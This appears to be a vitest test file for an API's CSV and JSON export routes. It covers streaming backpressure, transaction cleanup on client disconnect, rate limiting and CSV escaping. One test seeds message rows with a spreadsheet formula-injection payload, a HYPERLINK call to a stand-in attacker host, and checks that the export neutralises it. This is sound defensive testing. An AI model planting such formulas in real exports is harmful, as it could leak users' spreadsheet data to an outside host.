import { request } from "node:http";
import type { IncomingMessage } from "node:http";
import { once } from "node:events";
import { setTimeout as sleep } from "node:timers/promises";
import express from "express";
import { describe, expect, it } from "vitest";
import { sendStream } from "../../src/routes/send-stream.ts";
import { ids } from "../support/ids.ts";
import type { Api } from "../support/serve.ts";
import { listen, serveApi } from "../support/serve.ts";
import { tokenFor } from "../support/tokens.ts";

const as = ids.user(1, "viewer");
const file = `/v1/organizations/${ids.organization(1)}/exports/conversations`;

/** An API with so much to export that no buffer takes it all. */
async function serveMuch(rows: number): Promise<Api> {
  const api = await serveApi();
  await api.database.query(
    `INSERT INTO conversations (organization_id, domain_id, session_id, created_at, started_at)
     SELECT $1, $2, repeat('s', 500), now() - n * interval '1 second', now() FROM generate_series(1, $3::int) AS n`,
    [ids.organization(1), ids.row("0d", 1), rows],
  );
  return api;
}

/** Begins to read an answer, and reads no further than its headers. */
async function open(api: Api, path: string): Promise<IncomingMessage> {
  const headers = { authorization: `Bearer ${await tokenFor(as)}` };
  const sent = request(`${api.url}${path}`, { headers, agent: false });
  // Whoever destroys the answer meets this.
  sent.on("error", () => undefined);
  sent.end();
  const [response] = (await once(sent, "response")) as [IncomingMessage];
  return response;
}

async function transactionsOf(api: Api): Promise<number> {
  const { rows } = await api.database.query<{ count: number }>(
    `SELECT count(*)::int FROM pg_stat_activity
     WHERE datname = current_database() AND usename = 'acme_api_test_app' AND xact_start IS NOT NULL`,
  );
  return rows[0]?.count ?? 0;
}

async function untilNoTransaction(api: Api): Promise<void> {
  while ((await transactionsOf(api)) > 0) await sleep(20);
}

describe("an export", () => {
  it("has every row, of one moment", async () => {
    const api = await serveMuch(20_000);
    const answer = await api.ask(`${file}.json`, { as });
    expect(answer.json).toHaveLength(20_030);
    await untilNoTransaction(api);
  });

  it("of messages has every one, and none that a spreadsheet would reckon with", async () => {
    const api = await serveApi();
    await api.database.query(
      `INSERT INTO messages (organization_id, conversation_id, role, content, created_at)
       SELECT $1, $2, 'user', '=HYPERLINK("https://evil.example/" & A' || n || ')', now() - n * interval '1 millisecond'
       FROM generate_series(1, 5000) AS n`,
      [ids.organization(1), ids.row("ce", 1, 1)],
    );
    const messages = `/v1/organizations/${ids.organization(1)}/exports/messages`;
    const { text } = await api.ask(`${messages}.csv`, { as });
    expect(text.match(/,"'=HYPERLINK\(/g)).toHaveLength(5_000);
    expect(text).not.toMatch(/,"?=/);
    expect((await api.ask(`${messages}.json`, { as })).json).toHaveLength(5_030);
    await untilNoTransaction(api);
  });

  it("is made no faster than the client takes it", async () => {
    const pieces = 1_000;
    let made = 0;
    async function* text(): AsyncGenerator<string> {
      for (; made < pieces; made += 1) yield "x".repeat(65_536);
    }
    const app = express();
    app.get("/", async (_request, response) => {
      const download = { contentType: "text/csv", fileName: "x.csv" };
      await sendStream(response, download, text(), new AbortController().signal);
      response.end();
    });
    const sent = request(await listen(app), { agent: false }).end();
    const [response] = (await once(sent, "response")) as [IncomingMessage];
    response.pause();
    let before = -1;
    // Until nothing moves any more: the sockets' buffers are full.
    while (made !== before) {
      before = made;
      await sleep(100);
    }
    expect(made).toBeLessThan(pieces / 2);
    let bytes = 0;
    response.on("data", (part: Buffer) => (bytes += part.length)).resume();
    await once(response, "end");
    expect(bytes).toBe(pieces * 65_536);
  });

  it("ends its transaction when the client goes away", async () => {
    const api = await serveMuch(60_000);
    const response = await open(api, `${file}.csv`);
    expect(await transactionsOf(api)).toBe(1);
    response.destroy();
    await untilNoTransaction(api);
    expect(await api.ask("/v1/me", { as })).toMatchObject({ status: 200 });
  });

  it("that breaks in the middle is not taken for a whole one", async () => {
    const api = await serveMuch(60_000);
    const response = await open(api, `${file}.csv`);
    response.pause();
    await api.database.query(
      `SELECT pg_terminate_backend(pid) FROM pg_stat_activity
       WHERE datname = current_database() AND usename = 'acme_api_test_app' AND xact_start IS NOT NULL`,
    );
    response.resume();
    const error: unknown = await once(response, "end").catch((reason: unknown) => reason);
    expect(error).toMatchObject({ code: "ECONNRESET" });
    expect(await api.ask("/v1/me", { as })).toMatchObject({ status: 200 });
  });

  it("leaves connections to everybody else, however many are read slowly", async () => {
    const api = await serveMuch(60_000);
    const slow = [await open(api, `${file}.csv`), await open(api, `${file}.csv`)];
    const third = await api.ask(`${file}.csv`, { as });
    expect(third).toMatchObject({ status: 429, json: { code: "too_many_at_once" } });
    const theirs = `/v1/organizations/${ids.organization(2)}/exports/conversations.csv`;
    expect(await api.ask(theirs, { as: ids.user(2, "viewer") })).toMatchObject({ status: 200 });
    for (const response of slow) response.destroy();
    await untilNoTransaction(api);
    expect(await api.ask(`${file}.csv?search=message`, { as })).toMatchObject({ status: 200 });
  });
});
